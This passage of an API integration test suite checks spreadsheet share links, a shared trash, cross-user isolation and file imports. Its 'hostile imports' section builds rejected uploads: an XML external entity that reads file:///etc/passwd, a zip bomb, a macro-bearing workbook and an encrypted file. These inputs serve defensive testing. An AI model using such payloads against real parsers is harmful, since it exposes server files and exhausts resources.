    expect(viaGraphql.data!.spreadsheet.shares).toEqual([{ id: share.body.id }]);
    // Anyone holding the link sees the newest version.
    await client.sheets.write.mutate({ id, range: "B2", values: [[30]] });
    expect(((await (await fetch(`${tg.url}${share.body.url}?range=D2`)).json()) as RangeBody).values).toEqual([[45]]);
    expect((await api.call("DELETE", `/api/v1/spreadsheets/${id}/shares/${share.body.id}`)).status).toBe(204);
    expect((await fetch(`${tg.url}${share.body.url}`)).status).toBe(404);
  });

  it("a share link of a spreadsheet in the trash reads nothing", async () => {
    const { id } = await createBudget();
    const share = await agent.call("sheets_share", { id });
    expect(share.isError, share.text).toBe(false);
    const url = new URL(share.structured!["url"] as string, tg.url).pathname;
    expect((await fetch(`${tg.url}${url}`)).status).toBe(200);
    await api.call("DELETE", `/api/v1/spreadsheets/${id}`);
    expect((await fetch(`${tg.url}${url}`)).status).toBe(404);
  });
});

describe("the trash, shared with documents", () => {
  it("lists trashed spreadsheets and documents with their kind; restore and purge take either id", async () => {
    const other = rest(tg.url, await tg.key({ user: "trash-owner", scopes: SHEETS_SCOPES }));
    const sheet = (await other.call<Record_>("POST", "/api/v1/spreadsheets", { name: "binned sheet" })).body;
    const doc = (await other.call<{ id: string }>("POST", "/api/v1/documents", { name: "binned doc", markdown: "# x" })).body;
    const kept = (await other.call<Record_>("POST", "/api/v1/spreadsheets", { name: "binned too" })).body;
    for (const path of [`/api/v1/spreadsheets/${sheet.id}`, `/api/v1/documents/${doc.id}`, `/api/v1/spreadsheets/${kept.id}`]) {
      expect((await other.call("DELETE", path)).status, path).toBe(204);
    }
    const trash = (await other.call<Record<string, { id: string; kind: string }[]>>("GET", "/api/v1/trash")).body;
    const items = Object.values(trash).find(Array.isArray)!;
    expect(items.map((item) => [item.id, item.kind]).sort()).toEqual(
      [
        [sheet.id, "spreadsheet"],
        [doc.id, "document"],
        [kept.id, "spreadsheet"],
      ].sort(),
    );
    expect((await other.call("GET", `/api/v1/spreadsheets/${sheet.id}`)).status).toBe(404);
    expect((await other.call("GET", "/api/v1/spreadsheets")).body).toEqual({ spreadsheets: [], nextCursor: null });

    expect((await other.call<Record_>("POST", `/api/v1/trash/${sheet.id}/restore`)).body).toMatchObject({
      id: sheet.id,
      name: "binned sheet",
    });
    expect((await other.call("GET", `/api/v1/spreadsheets/${sheet.id}`)).status).toBe(200);
    expect((await other.call("DELETE", `/api/v1/trash/${kept.id}`)).status).toBe(204);
    expect((await other.call("DELETE", `/api/v1/trash/${doc.id}`)).status).toBe(204);
    const after = Object.values((await other.call<Record<string, unknown[]>>("GET", "/api/v1/trash")).body).find(Array.isArray)!;
    expect(after).toEqual([]);
    expect((await other.call("POST", `/api/v1/trash/${kept.id}/restore`)).status).toBe(404);
  });

  it("another user's spreadsheet is not found on any surface", async () => {
    const { id } = await createBudget();
    const stranger = await tg.key({ user: "stranger", scopes: SHEETS_SCOPES });
    expect((await rest(tg.url, stranger).call("GET", `/api/v1/spreadsheets/${id}`)).status).toBe(404);
    expect(await trpcOutcome(() => trpc(tg.url, stranger).sheets.read.query({ id, range: "A1" }))).toEqual({
      ok: false,
      code: "NOT_FOUND",
    });
    expect(
      (await graphql(tg.url, stranger)<{ spreadsheet: unknown }>(`query($id: ID!) { spreadsheet(id: $id) { id } }`, { id })).data,
    ).toEqual({
      spreadsheet: null,
    });
    const docsOnly = await tg.key({ user: "sheets-behaviour", scopes: ["docs:read", "docs:write"] });
    expect((await rest(tg.url, docsOnly).call("GET", `/api/v1/spreadsheets/${id}`)).status).toBe(403);
  });
});

describe("hostile imports store nothing", () => {
  const one = { sheets: [{ name: "S", data: `<row r="1"><c r="A1"><v>1</v></c></row>` }] };
  const dtd = `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
  const hostile: [string, () => Uint8Array, number][] = [
    ["not a zip", () => strToU8("\u0000\u0001 binary junk"), 415],
    [
      "encrypted (OLE compound file)",
      () => {
        const cfb = new Uint8Array(4096);
        cfb.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
        return cfb;
      },
      415,
    ],
    ["a .docx-like zip with no workbook", () => zipSync({ "word/document.xml": strToU8("<w:document/>") }), 415],
    ["macros (xl/vbaProject.bin)", () => buildXlsx({ ...one, extra: { "xl/vbaProject.bin": new Uint8Array([1, 2, 3]) } }), 415],
    [
      "a DTD with an external entity",
      () =>
        buildXlsx({
          sheets: [
            { name: "S", data: sheetXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>`).replace(/^<\?xml[^>]*>/, dtd) },
          ],
        }),
      415,
    ],
    ["a zip bomb lying about its sizes", () => BOMB, 413],
  ];

  it.each(hostile)(
    "%s → refused with its status, and the list, trash and store are unchanged",
    async (_name, make, status) => {
      const bytes = make();
      const owner = rest(tg.url, await tg.key({ user: "importer", scopes: SHEETS_SCOPES }));
      const before = (await owner.call<{ spreadsheets: unknown[] }>("GET", "/api/v1/spreadsheets")).body.spreadsheets.length;
      const answer = await owner.upload("/api/v1/spreadsheets", new File([bytes as Uint8Array<ArrayBuffer>], "upload.xlsx"), {
        name: "hostile-import",
      });
      expect(answer.status, answer.text).toBe(status);
      expect((await owner.call<{ spreadsheets: unknown[] }>("GET", "/api/v1/spreadsheets")).body.spreadsheets).toHaveLength(before);
      const viaGraphql = await gql<{ spreadsheets: { edges: { node: { name: string } }[] } }>(
        '{ spreadsheets(query: "hostile-import") { edges { node { name } } } }',
      );
      expect(viaGraphql.data!.spreadsheets.edges).toEqual([]);
    },
    60_000,
  );

  it("a retried import with the same Idempotency-Key stores one workbook; a CSV import sniffs ; and keeps a BOM out", async () => {
    const owner = rest(tg.url, await tg.key({ user: "csv-importer", scopes: SHEETS_SCOPES }));
    const csv = new File(["\uFEFFname;amount\nanna;1,5\nbob;2\n"], "people.csv", { type: "text/csv" });
    const first = await owner.upload("/api/v1/spreadsheets", csv, { name: "people" });
    expect(first.status, first.text).toBe(201);
    const id = (first.body as Record_).id;
    expect((await owner.call<RangeBody>("GET", `/api/v1/spreadsheets/${id}/values/A1:B3`)).body.values).toEqual([
      ["name", "amount"],
      ["anna", "1,5"],
      ["bob", 2],
    ]);
    const keyed = async () => {
      const form = new FormData();
      form.append("name", "keyed");
      form.append("file", new File(["a,b\n1,2\n"], "k.csv"), "k.csv");
      return fetch(`${tg.url}/api/v1/spreadsheets`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "idempotency-key": "import-1" },
        body: form,
      });
    };
    const [a, b] = [await keyed(), await keyed()];
    expect([a.status, b.status]).toEqual([201, 201]);
    expect(((await b.json()) as Record_).id).toBe(((await a.json()) as Record_).id);
  });
});
